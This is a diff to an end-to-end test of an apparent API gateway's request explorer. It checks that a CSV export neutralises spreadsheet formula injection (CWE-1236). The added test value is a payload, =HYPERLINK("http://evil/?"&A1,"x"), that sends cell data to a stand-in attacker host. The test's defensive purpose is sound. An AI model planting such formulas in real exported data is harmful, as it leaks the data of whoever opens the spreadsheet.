@@ -116,6 +116,9 @@ afterAll(async () => {
   await rb?.close();
 });
 
+/** A message id that Excel, LibreOffice and Sheets would run as a formula (CWE-1236). */
+const FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")';
+
 describe("request explorer", () => {
   const conversation = `conv-e2e-${Date.now()}`;
 
@@ -130,7 +133,8 @@ describe("request explorer", () => {
           model: "openai/gpt-4o-mini",
           messages: [{ role: "user", content: `question ${i}` }],
           conversation_id: conversation,
-          message_id: `msg-${i}`,
+          // A caller's id that a spreadsheet would run: the export must neutralise it.
+          message_id: i === 0 ? FORMULA : `msg-${i}`,
         }),
       });
       // 429 if an earlier test left a quota on this user: still a request log of the conversation.
@@ -161,7 +165,9 @@ describe("request explorer", () => {
       expect(await tr.locator('[data-col="tokens"]').textContent()).toBe(r.usage ? formatInt(r.usage.totalTokens) : "—");
       expect(await tr.locator('[data-col="cost"]').textContent()).toContain(r.usage ? formatUsd(r.usage.costNanoUsd) : "—");
     }
-    expectCsvOf(await exported(), convRows);
+    const convCsv = await exported();
+    expectCsvOf(convCsv, convRows);
+    expect(convCsv).toContain(`,"'${FORMULA.replace(/"/g, '""')}",`);
 
     // The newest request's details by keyboard alone, then its key's requests.
     const toggle = page.locator(`tr[data-request-id="${convRows[0].requestId}"] .row-toggle`);
